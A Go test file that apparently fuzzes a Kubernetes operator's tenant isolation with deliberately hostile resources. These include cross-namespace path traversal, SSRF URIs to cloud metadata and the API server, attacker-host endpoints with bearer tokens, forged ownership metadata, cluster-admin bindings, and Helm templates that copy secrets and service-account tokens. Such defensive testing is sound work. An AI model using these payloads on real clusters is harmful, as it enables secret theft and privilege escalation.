package tenants

import (
	"fmt"
	"math/rand"
	"slices"
	"strings"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	keeper "mlkeeper.dev/api/keeper/v1alpha1"
	"mlkeeper.dev/test/cluster"
)

// hostile makes what a tenant writes: it knows what there is of others, but no secret.
type hostile struct {
	*rand.Rand
	victim  string
	victims []*unstructured.Unstructured
}

func pick[T any](r *rand.Rand, of ...T) T { return of[r.Intn(len(of))] }

func (h *hostile) object() *unstructured.Unstructured { return pick(h.Rand, h.victims...) }

// reference is what a field gets that names another object.
func (h *hostile) reference() any {
	return pick[any](h.Rand, "canary", h.victim+"/canary", "../"+h.victim+"/canary", h.object().GetName(), "mlkeeper-digest-key",
		"other", "", "kube-root-ca.crt", account, strings.Repeat("a", 300))
}

// uri is what a field gets that names a source.
func (h *hostile) uri() any {
	return pick[any](h.Rand, "configmap:manifests/manifests.tar.gz", "configmap:charts/core.tgz", "configmap:canary/value", "secret:canary/value",
		"configmap:"+h.victim+"/canary/value", "secret:../"+h.victim+"/canary", "secret:"+h.victim+"/canary", "file:///var/run/secrets/token",
		"http://169.254.169.254/latest", "https://kubernetes.default.svc/api", "secret:mlkeeper-digest-key/key")
}

// path is one field of a spec with the values that it is given.
type path struct {
	at     string
	values func(*hostile) any
}

func among(values ...any) func(*hostile) any {
	return func(h *hostile) any { return pick(h.Rand, values...) }
}

// paths are the fields of each kind that name something, or choose what is made.
var paths = map[string][]path{
	"TrustyAIService": {
		{"storage.databaseConfigurations", (*hostile).reference},
		{"storage.pv", (*hostile).reference},
		{"storage.format", among("PVC", "DATABASE")},
		{"storage.retentionPolicy", among("Retain", "Delete")},
		{"tls.secretName", (*hostile).reference},
		{"exposure", among("Secured", "Plain")},
		{"tls.issuerRef", func(h *hostile) any { return map[string]any{"kind": "ClusterIssuer", "name": h.reference()} }},
		{"deletionPolicy", among("Delete", "Orphan")},
		{"image", among("evil:1", "")},
		{"inferenceServices.selector", among(map[string]any{}, map[string]any{"matchLabels": map[string]any{"a": "b"}})},
		{"serviceMonitoring.ref", func(h *hostile) any {
			return map[string]any{
				"metadata": map[string]any{"namespace": h.victim, "labels": map[string]any{"a": "b"}},
				"spec": map[string]any{
					"namespaceSelector": map[string]any{"any": true}, "selector": map[string]any{},
					"endpoints": []any{map[string]any{"bearerTokenFile": "/var/run/secrets/token", "proxyUrl": "http://evil"}},
				},
			}
		}},
		{"serviceMonitoring.ref", func(h *hostile) any {
			many, rules := map[string]any{}, []any{}
			for i := range 64 {
				many[fmt.Sprint(i)] = slices.Repeat([]any{[]any{}}, 1000)
				rules = append(rules, map[string]any{"action": "keep", "regex": strings.Repeat(pick(h.Rand, ".{1000}", "(?i)[a-\uffff]"), 200)})
			}
			endpoint := map[string]any{"metricRelabelings": rules}
			return pick[any](h.Rand, map[string]any{"metadata": many}, map[string]any{"spec": map[string]any{"endpoints": []any{endpoint}}})
		}},
	},
	"Tfserv": {
		{"configMap", (*hostile).reference},
		{"secretName", (*hostile).reference},
		{"serviceAccountName", (*hostile).reference},
		{"s3", func(h *hostile) any { return map[string]any{"secretName": h.reference(), "endpoint": "evil.example"} }},
		{"imagePullSecrets", func(h *hostile) any { return []any{map[string]any{"name": h.reference()}} }},
		{"modelVolume", func(h *hostile) any { return map[string]any{"claimName": h.reference()} }},
		{"securityContext", among(map[string]any{"privileged": true})},
		{"deletionPolicy", among("Delete", "Orphan")},
		{"monitoring", func(h *hostile) any { return map[string]any{"labels": map[string]any{"a": h.victim}} }},
		{"image", among("evil:1")},
		{"replicas", among(int64(0), int64(1), int64(2))},
	},
	"KfDef": {
		{"serviceAccountName", func(h *hostile) any {
			return pick[any](h.Rand, account, "default", cluster.OperatorAccount, h.victim+":"+account, "../"+h.victim, h.reference())
		}},
		{"repos", func(h *hostile) any {
			return []any{map[string]any{"name": "manifests", "uri": h.uri(), "secretName": h.reference()}}
		}},
		{"repos", func(h *hostile) any { return []any{map[string]any{"name": "manifests", "uri": h.uri()}} }},
		{"applications", func(h *hostile) any {
			path := pick[any](h.Rand, "web", "../web", "/etc", "web/base", "")
			return []any{map[string]any{"name": "web", "kustomizeConfig": map[string]any{"repoRef": map[string]any{"name": "manifests", "path": path}}}}
		}},
		{"applications", func(h *hostile) any {
			return []any{map[string]any{
				"name": "web", "kustomizeConfig": map[string]any{"repoRef": map[string]any{"name": "manifests", "path": "web"}},
				"patches": []any{map[string]any{
					"patch": "{kind: Any, metadata: {name: any, annotations: {evil: '${value}'}}}", "target": map[string]any{"kind": ".*"},
				}},
				"postBuild": map[string]any{"substituteFrom": []any{map[string]any{
					"kind": pick[any](h.Rand, "Secret", "ConfigMap"), "name": h.reference(), "optional": true,
				}}},
				"targetNamespace": pick[any](h.Rand, h.victim, "kube-system"), "commonMetadata": map[string]any{"labels": map[string]any{"a": h.victim}},
			}}
		}},
		{"rendering", among("Kfctl", "Kustomize")},
		{"deletionPolicy", among("Delete", "Orphan")},
		{"suspend", among(true, false)},
	},
	"SeldonOperator": {
		{"serviceAccountName", func(h *hostile) any {
			return pick[any](h.Rand, account, "default", cluster.OperatorAccount, h.reference())
		}},
		{"core.valuesFrom", func(h *hostile) any {
			return []any{map[string]any{
				"kind": pick[any](h.Rand, "Secret", "ConfigMap"), "name": h.reference(), "valuesKey": pick[any](h.Rand, "value", "key.json"),
				"targetPath": "runs", "optional": true,
			}}
		}},
		{"core.chart", func(h *hostile) any {
			return map[string]any{"repository": h.uri(), "name": "core", "version": "1.0.0", "secretName": h.reference()}
		}},
		{"core.values", func(h *hostile) any { return map[string]any{"runs": h.reference()} }},
		{"enterprise.values", func(h *hostile) any { return map[string]any{"runs": h.victim} }},
		{"deleteCRDs", among(true, false)},
		{"deletionPolicy", among("Delete", "Orphan")},
	},
}

// service is a TrustyAIService that needs nothing.
const service = `
apiVersion: trustyai.opendatahub.io/v1
kind: TrustyAIService
metadata: {name: tas}
spec:
  exposure: Secured
  storage: {format: DATABASE}
  metrics: {schedule: 5s}
`

// bases are the custom resources that are changed.
func bases() []*unstructured.Unstructured {
	var out []*unstructured.Unstructured
	for _, manifest := range []string{service, samples[0].manifest, samples[1].manifest, samples[2].manifest} {
		objects, err := cluster.Parse(manifest)
		if err != nil {
			panic(err)
		}
		out = append(out, objects[len(objects)-1])
	}
	return out
}

// resource is a custom resource with hostile fields.
func (h *hostile) resource() *unstructured.Unstructured {
	u := pick(h.Rand, bases()...)
	if h.Intn(3) == 0 {
		u.SetName(pick(h.Rand, "a", "a-b", "x", "canary", h.object().GetName()))
	}
	fields := paths[u.GetKind()]
	for range h.Intn(4) {
		field := pick(h.Rand, fields...)
		_ = unstructured.SetNestedField(u.Object, field.values(h), append([]string{"spec"}, strings.Split(field.at, ".")...)...)
	}
	h.mark(u)
	return u
}

// mark gives an object metadata that says something untrue.
func (h *hostile) mark(u *unstructured.Unstructured) {
	of := h.object()
	annotations, labels := map[string]string{}, map[string]string{}
	for _, key := range []string{keeper.OwnerAnnotation, keeper.AppliedHashAnnotation, keeper.AdoptedAnnotation, keeper.PartialAnnotation, keeper.ElementAnnotation} {
		if value := of.GetAnnotations()[key]; value != "" && h.Intn(2) == 0 {
			annotations[key] = value
		}
	}
	for _, key := range []string{keeper.ControllerLabel, keeper.StackLabel} {
		if value := of.GetLabels()[key]; value != "" && h.Intn(2) == 0 {
			labels[key] = value
		}
	}
	for key, value := range map[string]string{
		keeper.AdoptAnnotation: "true", keeper.PreviousOperatorAnnotation: "true", keeper.ReconcileAtAnnotation: fmt.Sprint(h.Intn(1000)),
		keeper.SuspendAnnotation: pick(h.Rand, "true", "false"), keeper.ElementAnnotation: "element-" + h.victim,
		keeper.WiringAnnotation: pick(h.Rand, `{"created":"x"}`, "{", `{"entries":[{"owner":"`+string(of.GetUID())+`","value":"http://evil"}]}`),
	} {
		if h.Intn(4) == 0 {
			annotations[key] = value
		}
	}
	u.SetAnnotations(annotations)
	u.SetLabels(labels)
	if h.Intn(3) == 0 {
		gvk := of.GroupVersionKind()
		ref := map[string]any{
			"apiVersion": gvk.GroupVersion().String(), "kind": gvk.Kind, "name": of.GetName(), "uid": string(of.GetUID()), "controller": h.Intn(2) == 0,
		}
		_ = unstructured.SetNestedSlice(u.Object, []any{ref}, "metadata", "ownerReferences")
	}
	if h.Intn(6) == 0 {
		u.SetFinalizers([]string{pick(h.Rand, "trustyai.opendatahub.io/finalizer", "kfdef-finalizer.kfdef.apps.kubeflow.org", "evil.example/stays")})
	}
}

// status says that objects of others belong to a custom resource.
func (h *hostile) status() map[string]any {
	var entries []any
	for range 1 + h.Intn(5) {
		of := h.object()
		gvk := of.GroupVersionKind()
		entries = append(entries, map[string]any{
			"version": gvk.Version, "group": gvk.Group, "kind": gvk.Kind, "namespace": of.GetNamespace(), "name": of.GetName(), "uid": string(of.GetUID()),
			"appliedHash": of.GetAnnotations()[keeper.AppliedHashAnnotation],
		})
	}
	out := map[string]any{"inventory": map[string]any{"entries": entries}}
	if h.Intn(3) == 0 {
		out["storageFormat"] = pick[any](h.Rand, "PVC", "DATABASE", nil)
		out["phase"] = "Ready"
	}
	return out
}

// thing is an object that others look for, with marks.
func (h *hostile) thing() *unstructured.Unstructured {
	gvk := pick(h.Rand, configMapGVK, secretGVK, serviceGVK, inferenceGVK,
		schema.GroupVersionKind{Version: "v1", Kind: "ServiceAccount"}, schema.GroupVersionKind{Group: "apps", Version: "v1", Kind: "Deployment"})
	content := ""
	switch gvk.Kind {
	case "Secret":
		content = `stringData: {value: mine, databaseKind: mariadb, tls.crt: x}`
	case "ConfigMap":
		content = `data: {value: mine, config.yaml: "podsPerRuntime: 1", models.conf: "model_config_list {}"}`
	case "Service":
		content = `spec: {ports: [{port: 80}]}`
	case "InferenceService":
		content = `spec: {predictor: {model: {modelFormat: {name: sklearn}}}}`
	case "Deployment":
		content = `spec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {containers: [{name: mm, image: c}]}}}`
	}
	objects, err := cluster.Parse(content + "\napiVersion: " + gvk.GroupVersion().String() + "\nkind: " + gvk.Kind + "\nmetadata: {name: x}\n")
	if err != nil {
		panic(err)
	}
	h.mark(objects[0])
	if gvk == secretGVK && h.Intn(6) == 0 {
		_ = unstructured.SetNestedField(objects[0].Object, "kubernetes.io/service-account-token", "type")
	}
	objects[0].SetName(pick(h.Rand, "canary", "model-serving-config", "modelmesh", "tas", "tas-proxy", "tas-tls", "tas-ca", "tfs", "tfs-service",
		"web-settings", "core-settings", "mlkeeper-digest-key", h.object().GetName()))
	return objects[0]
}

// forged is a cluster-scoped object, or one in a namespace of others.
func (h *hostile) forged(namespace string) *unstructured.Unstructured {
	manifest := pick(h.Rand,
		"apiVersion: keeper.mlkeeper.dev/v1alpha1\nkind: Inventory\nmetadata: {name: forged}\nspec: {owner: {kind: KfDef, namespace: "+namespace+", name: kf, uid: x}, stage: 0}\n",
		"apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: 'mlkeeper:trustyai-proxy:"+h.victim+":tas'}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n",
		strings.ReplaceAll(element, "NS", namespace),
		"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: canary, namespace: "+h.victim+"}\n",
		"apiVersion: v1\nkind: Secret\nmetadata: {name: canary, namespace: "+cluster.OperatorNamespace+"}\n",
		"apiVersion: v1\nkind: Namespace\nmetadata: {name: "+namespace+", labels: {"+keeper.CompositionsLabel+": "+keeper.CompositionsAllowed+"}}\n")
	objects, err := cluster.Parse(manifest)
	if err != nil {
		panic(err)
	}
	return objects[0]
}

// application and template are hostile content of an archive and of a chart.
func (h *hostile) application(namespace string) string {
	return strings.NewReplacer("VICTIM", h.victim, "NS", namespace).Replace(pick(h.Rand, "", `---
{apiVersion: v1, kind: Secret, metadata: {name: canary, namespace: VICTIM}, stringData: {value: overwritten}}
`, `---
{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: NS}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}, subjects: [{kind: ServiceAccount, name: mlkeeper, namespace: NS}]}
`, `---
{apiVersion: v1, kind: Namespace, metadata: {name: VICTIM, labels: {a: b}}}
---
{apiVersion: v1, kind: ConfigMap, metadata: {name: "theirs", namespace: VICTIM}}
`, `---
{apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: {name: x}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}, subjects: [{kind: ServiceAccount, name: mlkeeper}]}
`))
}

func (h *hostile) template(namespace string) string {
	return strings.NewReplacer("VICTIM", h.victim, "NS", namespace, "OPERATOR", cluster.OperatorNamespace).Replace(pick(h.Rand, "", `---
apiVersion: v1
kind: ConfigMap
metadata: {name: stolen}
data: {all: {{ lookup "v1" "Secret" "VICTIM" "canary" | toJson | quote }}}
`, `---
apiVersion: v1
kind: ConfigMap
metadata: {name: stolen}
data: {all: {{ lookup "v1" "Secret" "VICTIM" "" | toJson | quote }}, key: {{ lookup "v1" "Secret" "OPERATOR" "mlkeeper-digest-key" | toJson | quote }}}
`, `---
apiVersion: v1
kind: ConfigMap
metadata: {name: stolen}
data: {all: {{ .Files.Get "/var/run/secrets/kubernetes.io/serviceaccount/token" | quote }}, env: {{ env "HOME" | quote }}}
`, `---
apiVersion: v1
kind: Secret
metadata: {name: canary, namespace: VICTIM}
stringData: {value: overwritten}
`))
}
